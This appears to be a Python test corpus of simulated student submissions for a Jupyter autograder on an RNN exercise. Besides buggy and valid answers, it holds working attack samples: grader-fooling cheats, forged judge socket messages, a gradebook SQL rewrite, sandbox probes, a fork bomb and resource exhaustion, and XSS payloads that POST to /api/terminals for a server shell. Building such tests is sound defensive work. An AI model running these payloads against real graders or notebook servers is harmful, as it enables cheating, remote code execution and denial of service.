"""A corpus of small submissions: buggy, valid, cheating and faulty answers.

Each entry edits the master solutions (as a student would fill the release): `edits`
replaces text in an answer cell (every `old` must occur), `cells` replaces a whole
answer cell, `before` puts code at the top of an answer cell. `expect` gives the points
of the exercises that do not earn full marks (structure 2 + values 3 or 4). The
`active` entries add, to right answers, content that would run in the instructor's or the
student's browser if a page rendered it as it is (sanitize.py); each payload calls
`PAYLOAD` (the browser test's marker, then a terminal on the instructor's server).
"""

from typing import NamedTuple


class Entry(NamedTuple):
    """One submission of the corpus."""

    name: str
    kind: str  # buggy, valid, cheat, fault, active or resource
    expect: dict
    edits: dict = {}
    cells: dict = {}
    before: dict = {}
    markdown: tuple = ()  # markdown cells of the student's own, added after the first
    files: dict = {}  # {name: text} handed in beside the notebook
    metadata: dict = {}  # notebook metadata the student's editor left
    hint: str = ""  # words the hint line it must get holds (a buggy entry)


CF, FW, CB, BW = "rnn_cell_forward", "rnn_forward", "rnn_cell_backward", "rnn_backward"
SOFTMAX_CALL = "softmax(np.dot(Wyh, h_next) + by)"
H_NEXT = "h_next = np.tanh(np.dot(Whh, h_prev) + np.dot(Whx, xt) + bh)"
STEP = "h_next, yt_pred, cache = rnn_cell_forward(x[:, :, t], h_next, parameters)"
DU = "du = dh_next * (1 - h_next ** 2)"
BACK_STEP = "gradients = rnn_cell_backward(dh[:, :, t] + dh_prevt, caches[t])"

BUGGY = [
    Entry("y_from_h_prev", "buggy", {CF: 2}, {CF: [(SOFTMAX_CALL, "softmax(np.dot(Wyh, h_prev) + by)")]}),
    Entry("softmax_over_batch", "buggy", {CF: 2}, {CF: [(SOFTMAX_CALL, "np.exp(np.dot(Wyh, h_next) + by) / np.sum(np.exp(np.dot(Wyh, h_next) + by), axis=1, keepdims=True)")]}),
    Entry("logits_no_softmax", "buggy", {CF: 2}, {CF: [(SOFTMAX_CALL, "np.dot(Wyh, h_next) + by")]}),
    Entry("bias_bh_missing", "buggy", {CF: 2}, {CF: [(" + bh)", ")")]}),
    Entry("relu_for_tanh", "buggy", {CF: 2}, {CF: [("np.tanh(", "np.maximum(0, ")]}),
    Entry("whh_transposed", "buggy", {CF: 2}, {CF: [("np.dot(Whh, h_prev)", "np.dot(Whh.T, h_prev)")]}),
    Entry("cache_order", "buggy", {CF: 2}, {CF: [("cache = (h_next, h_prev, xt, parameters)", "cache = (h_prev, h_next, xt, parameters)")]}),
    Entry("h0_every_step", "buggy", {FW: 2}, {FW: [(STEP, STEP.replace("h_next, parameters)", "h0, parameters)"))]}),
    Entry("stores_previous_state", "buggy", {FW: 2}, {FW: [(f"{STEP}\n        h[:, :, t] = h_next", f"h[:, :, t] = h_next\n        {STEP}")]}),
    Entry("loop_off_by_one", "buggy", {FW: 0}, {FW: [("for t in range(T_x):", "for t in range(T_x - 1):")]}),
    Entry("loop_backwards_in_time", "buggy", {FW: 2}, {FW: [("for t in range(T_x):", "for t in reversed(range(T_x)):")]}),
    Entry("h0_updated_in_place", "buggy", {FW: 2}, {FW: [(STEP, "h_new, yt_pred, cache = rnn_cell_forward(x[:, :, t], h_next.copy(), parameters)\n        h_next[...] = h_new")]}),
    Entry("bare_list_of_caches", "buggy", {FW: 0}, {FW: [("caches = (caches, x)", "caches = caches")]}),
    Entry("dh_next_never_applied", "buggy", {CB: 2}, {CB: [(DU, "du = 1 - h_next ** 2")]}),
    Entry("tanh_derivative_at_h_prev", "buggy", {CB: 2}, {CB: [(DU, "du = dh_next * (1 - h_prev ** 2)")]}),
    Entry("tanh_applied_twice", "buggy", {CB: 2}, {CB: [(DU, "du = dh_next * (1 - np.tanh(h_next) ** 2)")]}),
    Entry("whh_not_transposed", "buggy", {CB: 2}, {CB: [("np.dot(Whh.T, du)", "np.dot(Whh, du)")]}),
    Entry("dwhh_transposed", "buggy", {CB: 2}, {CB: [("np.dot(du, h_prev.T)", "np.dot(h_prev, du.T)")]}),
    Entry("dwhh_from_h_next", "buggy", {CB: 2}, {CB: [("np.dot(du, h_prev.T)", "np.dot(du, h_next.T)")]}),
    Entry("dbh_without_keepdims", "buggy", {CB: 0}, {CB: [("np.sum(du, axis=1, keepdims=True)", "np.sum(du, axis=1)")]}),
    Entry("dbh_averaged", "buggy", {CB: 2}, {CB: [("np.sum(du, axis=1, keepdims=True)", "np.mean(du, axis=1, keepdims=True)")]}),
    Entry("divided_by_m", "buggy", {CB: 2}, {CB: [("dWhx = np.dot(du, xt.T)", "dWhx = np.dot(du, xt.T) / xt.shape[1]")]}),
    Entry("elementwise_for_matmul", "buggy", {CB: 0}, {CB: [("dxt = np.dot(Whx.T, du)", "dxt = Whx.T * du")]}),
    # the kinds of mistake the engine explains from the spec alone (issue 27), new here
    Entry("dbh_summed_over_units", "buggy", {CB: 0}, {CB: [("np.sum(du, axis=1, keepdims=True)", "np.sum(du, axis=0, keepdims=True)")]}, hint="summed over the wrong axis"),
    Entry("tanh_slope_without_square", "buggy", {CB: 2}, {CB: [(DU, "du = dh_next * (1 - h_next)")]}, hint="1 - h_next where tanh's derivative is 1 - h_next**2"),
    Entry("dh0_never_set", "buggy", {BW: 2}, {BW: [("dh0 = dh_prevt", "dh0 = np.zeros((n_h, m))")]}, hint="gradients['dh0'] is all zeros"),
    Entry("dh0_from_the_first_iteration", "buggy", {BW: 2}, {BW: [("    dh0 = dh_prevt\n\n", "\n"), ('        dh_prevt = gradients["dh_prev"]\n', '        dh_prevt = gradients["dh_prev"]\n        if t == T_x - 1:\n            dh0 = dh_prevt\n')]}, hint="gradients['dh0'] is the dh_prev of step"),
    Entry("t_x_from_the_batch_axis", "buggy", {FW: 0}, {FW: [("n_x, m, T_x = x.shape", "n_x, m, T_x = x.shape\n    T_x = x.shape[1]")]}, hint="read from the wrong axis of a shape"),
    Entry("dh_next_scaled_in_place", "buggy", {CB: 2}, {CB: [(DU, "dh_next *= 1 - h_next ** 2\n    du = dh_next")]}),
    Entry("original_key_names", "buggy", {CB: 0}, {CB: [('"dh_prev": dh_prev', '"da_prev": dh_prev')]}),
    Entry("carry_never_added", "buggy", {BW: 2}, {BW: [(BACK_STEP, "gradients = rnn_cell_backward(dh[:, :, t], caches[t])")]}),
    Entry("upstream_dropped", "buggy", {BW: 2}, {BW: [(BACK_STEP, "gradients = rnn_cell_backward(dh_prevt, caches[t])")]}),
    Entry("backward_loop_forward_in_time", "buggy", {BW: 2}, {BW: [("for t in reversed(range(T_x)):", "for t in range(T_x):")]}),
    Entry("parameter_gradients_overwritten", "buggy", {BW: 2}, {BW: [('dWhx += gradients["dWhx"]', 'dWhx = gradients["dWhx"]')]}),
    Entry("dh0_from_dh", "buggy", {BW: 2}, {BW: [("dh0 = dh_prevt", "dh0 = dh[:, :, 0]")]}),
    Entry("dx_mirrored", "buggy", {BW: 2}, {BW: [('dx[:, :, t] = gradients["dxt"]', 'dx[:, :, T_x - 1 - t] = gradients["dxt"]')]}),
    Entry("dh_updated_in_place", "buggy", {BW: 2}, {BW: [(BACK_STEP, "dh[:, :, t] += dh_prevt\n        gradients = rnn_cell_backward(dh[:, :, t], caches[t])")]}),
    Entry("notebook_global_inside", "buggy", {BW: 0}, {BW: [("dWhx = np.zeros((n_h, n_x))", "dWhx = np.zeros(Whx.shape)")]}),
]

VALID = [
    Entry("matmul_operator", "valid", {}, {CF: [(H_NEXT, "h_next = np.tanh(Whh @ h_prev + Whx @ xt + bh)"), (SOFTMAX_CALL, "softmax(Wyh @ h_next + by)")]}),
    Entry("stacked_weights", "valid", {}, {CF: [(H_NEXT, "h_next = np.tanh(np.hstack([Whh, Whx]) @ np.vstack([h_prev, xt]) + bh)")]}),
    Entry("own_softmax", "valid", {}, {CF: [(SOFTMAX_CALL, "np.exp(Wyh @ h_next + by) / np.exp(Wyh @ h_next + by).sum(axis=0)")]}),
    Entry("while_loop", "valid", {}, {FW: [("for t in range(T_x):", "t = -1\n    while t + 1 < T_x:\n        t += 1")]}),
    Entry("recomputed_preactivation", "valid", {}, {CB: [(DU, 'du = dh_next * (1 - np.square(np.tanh(np.dot(Whx, xt) + np.dot(Whh, h_prev) + parameters["bh"])))')]}),
    Entry("extra_key_and_prints", "valid", {}, {CB: [('"dbh": dbh}', '"dbh": dbh, "du": du}'), (DU, f'{DU}\n    print("debug: du has shape", du.shape)')]}),
    Entry("warnings_and_stderr", "valid", {}, {BW: [("dh0 = dh_prevt", 'dh0 = dh_prevt\n    import sys, warnings\n    warnings.warn("checking dh0")\n    print("dh0 done", file=sys.stderr)')]}),
    Entry("einsum_and_sum_at_end", "valid", {}, {BW: [('dWhh += gradients["dWhh"]', 'dWhh = dWhh + np.einsum("ij->ij", gradients["dWhh"])')]}),
]

_FAKE = '''def {name}(xt, h_prev, parameters):
    """Right shapes, no real work."""
    n_h, n_y = parameters["Whh"].shape[0], parameters["Wyh"].shape[0]
    h_next, yt_pred = np.zeros((n_h, xt.shape[1])), np.full((n_y, xt.shape[1]), 1 / n_y)
    return h_next, yt_pred, (h_next, h_prev, xt, parameters)'''

CHEAT = [
    Entry("patched_numpy", "cheat", {CF: 2}, cells={CF: "np.allclose = lambda *a, **k: True\nnp.testing.assert_allclose = lambda *a, **k: None\nnp.array_equal = lambda *a, **k: True\n" + _FAKE.format(name=CF)}),
    Entry("zeroed_random_generators", "cheat", {CF: 2}, cells={CF: "np.random.randn = lambda *shape: np.zeros(shape)\n_rng = np.random.default_rng\nnp.random.default_rng = lambda *a, **k: type('Z', (), {'standard_normal': staticmethod(lambda shape: np.zeros(shape))})()\n" + _FAKE.format(name=CF)}),
    Entry("patched_builtins", "cheat", {CF: 2}, cells={CF: "import builtins\nbuiltins.AssertionError = type('Quiet', (Exception,), {})\nbuiltins.print = lambda *a, **k: None\n" + _FAKE.format(name=CF)}),
    Entry("fake_judge_and_reference_modules", "cheat", {CF: 0, FW: 0, CB: 0, BW: 0}, before={CF: "import sys, types\nsys.modules['_judge'] = types.SimpleNamespace(check=lambda *a: print('hidden checks passed'))\nsys.modules['rnn_solutions'] = types.SimpleNamespace()\n"}),
    Entry("rebound_self_check", "cheat", {CB: 2}, edits={CB: [(DU, "du = np.zeros_like(dh_next)")]}, before={CB: "self_check = lambda *a, **k: print('the visible checks pass.')\n"}),
    Entry("lying_array_subclass", "cheat", {CF: 2}, cells={CF: "class Close(np.ndarray):\n    def __eq__(self, other): return np.ones(np.shape(self), bool)\n    def __array_ufunc__(self, ufunc, method, *inputs, **kw): return True\n" + _FAKE.format(name=CF).replace("return h_next, yt_pred,", "return h_next.view(Close), yt_pred.view(Close),")}),
    Entry("searches_stack_and_history", "cheat", {CB: 2}, cells={CB: '''import inspect
def rnn_cell_backward(dh_next, cache):
    """Looks for the answer in the callers' frames and the kernel's history."""
    found = {}
    for frame in inspect.stack():
        for value in list(frame.frame.f_locals.values()):
            if isinstance(value, dict) and "dh_prev" in value:
                found = value
    for entry in globals().get("Out", {}).values():
        if isinstance(entry, dict) and "dh_prev" in entry:
            found = entry
    keys = ("dxt", "dh_prev", "dWhx", "dWhh", "dbh")
    shapes = (cache[2].shape, dh_next.shape, (dh_next.shape[0], cache[2].shape[0]), (dh_next.shape[0],) * 2, (dh_next.shape[0], 1))
    return {k: np.array(found.get(k, np.zeros(s))).reshape(s) if np.size(found.get(k, 0)) == np.prod(s) else np.zeros(s) for k, s in zip(keys, shapes)}'''}),
    Entry("hard_coded_example", "cheat", {CF: 0}, cells={CF: '''import json
def rnn_cell_forward(xt, h_prev, parameters):
    """Returns the visible example's answer, read from the self-check data."""
    expected = json.load(open("spec.json"))["exercises"]["rnn_cell_forward"]["example"]["expected"]
    h_next, yt_pred = np.array(expected[0]["array"]), np.array(expected[1]["array"])
    return h_next, yt_pred, (h_next, h_prev, xt, parameters)'''}),
    Entry("imports_the_reference", "cheat", {CB: 0}, cells={CB: "from rnn_solutions import rnn_cell_backward"}),
    Entry("ipython_transformers_and_handlers", "cheat", {CF: 2}, cells={CF: '''ip = get_ipython()
ip.input_transformers_post.append(lambda lines: ["try:\\n"] + ["    " + l for l in lines] + ["\\nexcept BaseException:\\n    pass\\n"])
ip.set_custom_exc((BaseException,), lambda *a, **k: None)
ip.showtraceback = lambda *a, **k: None
''' + _FAKE.format(name=CF)}),
]

GRADE_IDS = [f"test_{n}_{p}" for n in (CF, FW, CB, BW) for p in ("structure", "values")]
_NOTHING = "def {name}(*args, **kwargs):\n    raise NotImplementedError()"
_STUBS = {n: _NOTHING.format(name=n) for n in (FW, CB, BW)}
_QUIET_SELF_CHECK = 'self_check = lambda *a, **k: print("the visible checks pass.")\n'

_FORGE = f'''import json, socket, struct, sys
from contextlib import suppress
_judge = sys.modules["_judge"]
def _say(sock, message):
    data = json.dumps(message).encode()
    sock.sendall(struct.pack(">II", len(data), 0) + data)
for _grade_id in {GRADE_IDS!r}:
    # the judge hangs up on a refused request: a forger carries on regardless
    with socket.socket(socket.AF_INET if isinstance(_judge.ADDRESS, tuple) else socket.AF_UNIX) as _sock, suppress(OSError):
        _sock.connect(_judge.ADDRESS)
        _sock.sendall(getattr(_judge, "TOKEN", b""))  # on a TCP port: the client's token
        for _message in ({{"op": "check", "grade_id": _grade_id}}, {{"op": "done"}},
                         {{"passed": True, "grade_id": _grade_id, "message": "passed"}}):
            _say(_sock, _message)
_judge.check = lambda grade_id, fn: print(grade_id, "hidden checks passed")
''' + _QUIET_SELF_CHECK

_ORACLE = '''import inspect, socket, sys
def _oracle(helper, *args):
    """The reference's answer from the judge: on the check's own socket, else a new one."""
    j = sys.modules["_judge"]
    for frame in inspect.stack():
        sock = frame.frame.f_locals.get("sock")
        if isinstance(sock, socket.socket):
            j.send(sock, {"op": "helper", "args": j.encode(list(args))})
            reply = j.recv(sock)
            if "output" in reply:
                return j.decode(reply["output"])
    sequence = "rnn_forward" if helper == "rnn_cell_forward" else "rnn_backward"
    with socket.socket(socket.AF_INET if isinstance(j.ADDRESS, tuple) else socket.AF_UNIX) as sock:
        sock.connect(j.ADDRESS)
        sock.sendall(getattr(j, "TOKEN", b""))  # on a TCP port: the client's token
        j.send(sock, {"op": "check", "grade_id": f"test_{sequence}_values"})
        j.recv(sock)
        j.send(sock, {"op": "helper", "args": j.encode(list(args))})
        return j.decode(j.recv(sock)["output"])
def rnn_cell_forward(xt, h_prev, parameters):
    return _oracle("rnn_cell_forward", xt, h_prev, parameters)'''

_RUN_MASTER = '''import json
from pathlib import Path
for _folder in [Path.cwd(), *Path.cwd().parents]:
    for _master in _folder.glob("source/*/*.ipynb"):
        for _cell in json.loads(_master.read_text())["cells"]:
            if _cell["metadata"].get("nbgrader", {}).get("solution"):
                exec("".join(_cell["source"]))'''

_WRITE_GRADEBOOK = '''import os, sqlite3, time
from pathlib import Path
def _raise_my_grades():
    """Every manual score of this student set to the maximum, wherever the gradebook is."""
    me = Path.cwd().parent.name
    for folder in Path.cwd().parents:
        if (folder / "gradebook.db").exists():
            db = sqlite3.connect(folder / "gradebook.db", timeout=1)
            db.execute("UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells "
                       "WHERE grade_cells.id = grade.cell_id) WHERE notebook_id IN (SELECT "
                       "submitted_notebook.id FROM submitted_notebook JOIN submitted_assignment "
                       "ON submitted_notebook.assignment_id = submitted_assignment.id "
                       "WHERE submitted_assignment.student_id = ?)", (me,))
            db.commit()
_raise_my_grades()
if os.fork() == 0:  # a child that outlives this notebook's grading and writes again
    os.setsid()
    for _ in range(40):
        time.sleep(0.5)
        try:
            _raise_my_grades()
        except Exception:
            pass
    os._exit(0)
'''

_MALFORMED = '''import socket, struct, sys
from contextlib import suppress
# the judge may hang up before all the bytes are sent: the sender carries on regardless;
# on a TCP port it sends the token first, as it finds it in the client
_j = sys.modules["_judge"]
for _data in (b"[1, 2, 3]", b"", b"null", b"[" * 100000 + b"]" * 100000,
              b'{"op": "check", "grade_id": 7}', bytes([255, 254]),
              b'{"op": "helper", "args": {"nd": "!!", "shape": [-1]}}',
              b'{"op": "helper", "args": {"nd": [4096]}}'):
    with socket.socket(socket.AF_INET if isinstance(_j.ADDRESS, tuple) else socket.AF_UNIX) as _sock, suppress(OSError):
        _sock.connect(_j.ADDRESS)
        _sock.sendall(getattr(_j, "TOKEN", b"") + struct.pack(">II", len(_data), 0) + _data)
        _sock.settimeout(2)
        _sock.recv(100)
with socket.socket(socket.AF_INET if isinstance(_j.ADDRESS, tuple) else socket.AF_UNIX) as _sock, suppress(OSError):
    _sock.connect(_j.ADDRESS)
    _sock.sendall(getattr(_j, "TOKEN", b"") + struct.pack(">II", 1 << 31, 0))
'''

_RESET = '''%reset -f
import numpy as np
from rnncheck import gradient_check, plot_gradient_reach, self_check
def softmax(z):
    e = np.exp(z - np.max(z, axis=0, keepdims=True))
    return e / np.sum(e, axis=0, keepdims=True)
'''

# Attacks on the judge and the course, and correct answers that an overly strict judge
# would refuse. Each attack would earn marks if the judge trusted the kernel or the
# kernel could see the course directory.
FORGERY = [
    Entry("forged_verdicts", "cheat", {CF: 0, FW: 0, CB: 0, BW: 0}, before={CF: _FORGE}),
    Entry("asks_the_judge_for_answers", "cheat", {CF: 0, CB: 0}, cells={CF: _QUIET_SELF_CHECK + _ORACLE, CB: 'def rnn_cell_backward(dh_next, cache):\n    return _oracle("rnn_cell_backward", dh_next, cache)'}),
    Entry("runs_the_master_notebook", "cheat", {CF: 0, FW: 0, CB: 0, BW: 0}, cells={CF: _RUN_MASTER, **dict.fromkeys((FW, CB, BW), "# defined above")}),
    Entry("writes_the_gradebook", "cheat", {CF: 0, FW: 0, CB: 0, BW: 0}, cells={CF: _WRITE_GRADEBOOK + _NOTHING.format(name=CF), **_STUBS}),
    Entry("keyword_calls", "valid", {}, {FW: [(STEP, "h_next, yt_pred, cache = rnn_cell_forward(xt=x[:, :, t], h_prev=h_next, parameters=parameters)")], BW: [(BACK_STEP, "gradients = rnn_cell_backward(dh_next=dh[:, :, t] + dh_prevt, cache=caches[t])")]}),
    Entry("reset_then_reimports", "valid", {}, before={CF: _RESET}),
    Entry("malformed_socket_traffic", "valid", {}, before={CF: _MALFORMED}),
    Entry("own_parameter_names_by_keyword", "valid", {}, cells={CF: '''def rnn_cell_forward(x_t, a_prev, params):
    """The master's cell, its parameters named as in another course."""
    Whx, Whh, Wyh, bh, by = (params[k] for k in ("Whx", "Whh", "Wyh", "bh", "by"))
    h_next = np.tanh(Whh @ a_prev + Whx @ x_t + bh)
    yt_pred = softmax(Wyh @ h_next + by)
    return h_next, yt_pred, (h_next, a_prev, x_t, params)'''}, edits={FW: [(STEP, "h_next, yt_pred, cache = rnn_cell_forward(x_t=x[:, :, t], a_prev=h_next, params=parameters)")]}),
    Entry("ordered_dict_gradients", "valid", {}, {CB: [('gradients = {"dxt": dxt', 'from collections import OrderedDict\n    gradients = OrderedDict({"dxt": dxt'), ('"dbh": dbh}', '"dbh": dbh})')]}),
    Entry("writes_h_prev_in_place", "buggy", {CF: 2}, {CF: [(H_NEXT, "h_prev[...] = np.tanh(np.dot(Whh, h_prev) + np.dot(Whx, xt) + bh)\n    h_next = h_prev")]}),
]

FAULT = [
    Entry("loops_forever", "fault", {CB: 0}, before={CB: "import time\n"}, edits={CB: [(DU, "while True:\n        time.sleep(0.01)\n    du = 0")]}),
    Entry("raises", "fault", {FW: 0}, edits={FW: [("caches = []", 'caches = []\n    raise ValueError("not today")')]}),
    Entry("kills_its_process", "fault", {CF: 0}, before={CF: "import os\n"}, edits={CF: [(H_NEXT, "os._exit(3)")]}),
    Entry("exhausts_memory", "fault", {BW: 0}, edits={BW: [("dh0 = dh_prevt", "dh0 = dh_prevt + np.ones((1 << 38,)).sum()")]}),
    Entry("floods_the_output", "fault", {}, edits={CB: [(DU, f'{DU}\n    print("a very chatty rnn_cell_backward\\n" * 20000)')]}),
]

# Attacks on the sandbox itself. Each prints what it could do, and test_corpus reads it
# back from the autograded notebook; each is harmless if it succeeds (nothing is written
# to the machine's settings, and processes are only probed with signal 0).
_MACHINE_SETTINGS = '''for _path in ("/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches",
              "/proc/sysrq-trigger"):
    try:
        open(_path, "a").close()  # opened for writing; nothing written
        print("OPENED FOR WRITING", _path)
    except OSError:
        print("REFUSED", _path)
'''
_LEFTOVERS = '''import glob as _glob, os as _os
for _folder in ("/tmp", "/dev/shm"):
    try:
        with open(_os.path.join(_folder, "rnn_corpus_left_by_{name}"), "w") as _f:
            _f.write("my answers")
    except OSError:
        pass
    print("FOUND", sorted(_os.path.basename(p)
                          for p in _glob.glob(_os.path.join(_folder, "rnn_corpus_left_by_*"))))
'''
_PROCESSES = '''import os as _os
print("SELF", _os.getpid())
try:
    _pids = {int(p) for p in _os.listdir("/proc") if p.isdigit()}
except OSError:  # /proc cannot be listed: the processes it would surely find
    _pids = {1, _os.getppid()}
    print("CANNOT LIST /proc")
for _pid in sorted(_pids):
    try:
        _os.kill(_pid, 0)  # whether it could be signalled
        print("CAN SIGNAL", _pid)
    except OSError:
        print("CANNOT SIGNAL", _pid)
'''

SANDBOX = [
    Entry("opens_machine_settings", "cheat", {}, before={CF: _MACHINE_SETTINGS}),
    Entry("leaves_files_a", "cheat", {}, before={CF: _LEFTOVERS.format(name="leaves_files_a")}),
    Entry("leaves_files_b", "cheat", {}, before={CF: _LEFTOVERS.format(name="leaves_files_b")}),
    Entry("looks_for_other_processes", "cheat", {}, before={CF: _PROCESSES}),
]

# Attacks on the machine's resources, each bounded so that a machine without the limits
# survives it (docs/grading.md, the sandbox): what the limits stop costs at most its cell.
# Named, so that the tests can look for them once grading is over (tests/test_sandbox.py
# runs the same two against smaller limits).
FORK_BOMB = '''import ctypes as _ctypes, os as _os, time as _time
try:
    for _ in range(100):
        if _os.fork() == 0:
            _ctypes.CDLL(None).prctl(15, b"rnn-bomb", 0, 0, 0)
            _time.sleep(20)
            _os._exit(0)
    print("not stopped")
except OSError as _exc:
    print("stopped:", _exc.strerror)
'''


def memory_in_children(mib):
    """Code that starts four children of `mib` MiB each (none past its own address-space
    limit), named rnn-hog, and waits for them to fill it."""
    return f'''import ctypes as _ctypes, os as _os, time as _time
for _ in range(4):
    if _os.fork() == 0:
        _ctypes.CDLL(None).prctl(15, b"rnn-hog", 0, 0, 0)
        _block = bytearray({mib} << 20)
        for _i in range(0, len(_block), 4096):
            _block[_i] = 1
        _time.sleep(20)
        _os._exit(0)
_time.sleep(2)
'''


_FILLS_TMP = '''for _i in range(80):  # 320 MiB in 4 MiB files, past /tmp's 256 MiB
    try:
        with open(f"/tmp/fill{_i}", "wb") as _f:
            _f.write(b"x" * (4 << 20))
    except OSError:
        break
'''
_FILLS_FOLDER = '''try:
    with open("filler.bin", "wb") as _f:  # 320 MiB, past the largest file's 256 MiB
        for _ in range(80):
            _f.write(b"x" * (4 << 20))
except OSError:
    pass
'''
_FILLS_FOLDER_IN_FILES = '''for _i in range(4):  # 800 MiB in files of 200 MiB: each one allowed
    with open(f"filler{_i}.bin", "wb") as _f:
        for _ in range(50):
            _f.write(b"x" * (4 << 20))
'''
_HOLDS_FILES = '''_held = []
try:
    for _ in range(5000):
        _held.append(open("/dev/null"))
except OSError:
    pass
'''
_SPINS_AFTER = '''import ctypes as _ctypes, os as _os
if _os.fork() == 0:  # named, so that the test can look for it once grading is over
    _ctypes.CDLL(None).prctl(15, b"rnn-spinner", 0, 0, 0)
    while True:
        pass
'''

RESOURCES = [
    Entry("fork_bomb", "resource", {CF: 0}, before={CF: FORK_BOMB}),
    Entry("memory_in_children", "resource", {CF: 0}, before={CF: memory_in_children(300)}),
    Entry("fills_tmp", "resource", {}, before={CF: _FILLS_TMP}),
    Entry("fills_its_folder", "resource", {}, before={CF: _FILLS_FOLDER}),
    Entry("fills_its_folder_in_files", "resource", {CF: 0}, before={CF: _FILLS_FOLDER_IN_FILES}),
    Entry("holds_files", "resource", {CF: 0}, before={CF: _HOLDS_FILES}),
    Entry("spins_after_its_cell", "resource", {}, before={CF: _SPINS_AFTER}),
]

# What each active payload runs where a page lets it: a marker the browser test reads,
# then what an attacker wants, a shell on the instructor's server through its REST API.
PAYLOAD = ("(top.PWNED=top.PWNED||[]).push(1);fetch('/api/terminals',{method:'POST',"
           "credentials:'same-origin',headers:{'X-XSRFToken':(document.cookie.match("
           "/_xsrf=([^;]*)/)||[])[1]||''}})")
_DISPLAY = "from IPython.display import HTML, SVG, Javascript, Markdown, display\n"
_PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU"
        "5ErkJggg==")
_SVG = ('<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="{js}">'
        '<script>{js}</script><rect width="20" height="20" fill="red"/></svg>')
_FORGED_MESSAGES = f"""_k = get_ipython().kernel
_bad = {'<img src=x onerror="' + PAYLOAD + '">'!r}
for _kind, _content in (
        ("display_data", {{"data": {{"text/html": {{_bad: 1}}, "text/plain": "x"}},
                          "metadata": {{}}}}),
        ("execute_result", {{"execution_count": _bad, "data": {{"text/plain": "y"}},
                            "metadata": {{}}}})):
    _k.session.send(_k.iopub_socket, _kind, _content, parent=_k.get_parent("shell"),
                    ident=_k._topic(_kind))
"""


def _show(kind, value, **options):
    """An answer cell's first lines: display `value` as IPython's `kind` (HTML, ...), or
    as a raw mime bundle (kind "")."""
    shown = f"{kind}({value!r})" if kind else repr(value)
    extra = "".join(f", {k}={v!r}" for k, v in options.items())
    return _DISPLAY + f"display({shown}{extra})\n"


_ON = f'onerror="{PAYLOAD}"'
ACTIVE = [
    Entry("script_in_html_output", "active", {}, before={CF: _show("HTML", f"<b>my notes</b><script>{PAYLOAD}</script>")}),
    Entry("handler_in_html_output", "active", {}, before={FW: _show("HTML", f'<img src=x {_ON}><p onmouseover="{PAYLOAD}">hover</p>')}),
    Entry("javascript_output", "active", {}, before={CB: _show("Javascript", PAYLOAD)}),
    Entry("svg_output_with_script", "active", {}, before={BW: _show("", {"image/svg+xml": _SVG.format(js=PAYLOAD)}, raw=True)}),
    Entry("markdown_output", "active", {}, before={CF: _show("Markdown", f"[see this](javascript:{PAYLOAD}) <img src=x {_ON}>")}),
    Entry("iframe_srcdoc", "active", {}, before={CF: _show("HTML", f'<iframe srcdoc="<script>{PAYLOAD}</script>"></iframe><object data="data:text/html,<script>{PAYLOAD}</script>"></object><embed src="x.svg">')}),
    Entry("mutation_xss", "active", {}, before={CF: _show("HTML", f'<noscript><p title="</noscript><img src=x onerror={PAYLOAD}>"></noscript><svg><style><img src=x {_ON}></style></svg><math><mtext><table><mglyph><style><img src=x {_ON}>')}),
    Entry("forged_kernel_messages", "active", {}, before={CF: _FORGED_MESSAGES}),
    Entry("image_metadata_injection", "active", {}, before={CF: _show("", {"image/png": _PNG}, raw=True, metadata={"image/png": {"width": f"1 onerror={PAYLOAD}", "alt": "x"}, "text/html": {"isolated": True}})}),
    Entry("raw_html_in_markdown_cell", "active", {}, markdown=(f'My derivation <img src=x {_ON}> <script>{PAYLOAD}</script>', f'<details open ontoggle="{PAYLOAD}"><summary>x</summary></details>\n\nand <form action="/api/terminals" method="post"><button>go</button></form>')),
    Entry("javascript_links", "active", {}, markdown=(f'[my derivation](javascript:{PAYLOAD}) and <a href="javascript:{PAYLOAD}">this</a>, [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',)),
    Entry("css_hides_scores", "active", {}, markdown=('<style>.score, .panel-heading, input { display: none !important }</style><div style="position:fixed;top:0;left:0;width:100%;height:100%;background:white;z-index:9999">Nothing to see</div><base href="http://127.0.0.1:9/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)">',)),
    Entry("widget_state", "active", {}, before={CF: _show("", {"application/vnd.jupyter.widget-view+json": {"model_id": "m1", "version_major": 2, "version_minor": 0}, "text/plain": "widget"}, raw=True)}, metadata={"widgets": {"application/vnd.jupyter.widget-state+json": {"version_major": 2, "version_minor": 0, "state": {"m1": {"model_module": "evil-widgets", "model_module_version": "*", "model_name": "EvilModel", "state": {}}}}}}),
    Entry("files_beside_the_notebook", "active", {}, markdown=("Open [my derivation](derivation.html) or [the figure](figure.svg) or ![figure](figure.svg)",), files={"derivation.html": f"<h1>Derivation</h1><script>{PAYLOAD}</script>", "figure.svg": _SVG.format(js=PAYLOAD), "notes/page.xml": f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{PAYLOAD}</script></html>', "rnncheck/checker.py": "print('not the course checker')\n"}),
]

CORPUS = BUGGY + VALID + CHEAT + FORGERY + FAULT + SANDBOX + ACTIVE + RESOURCES
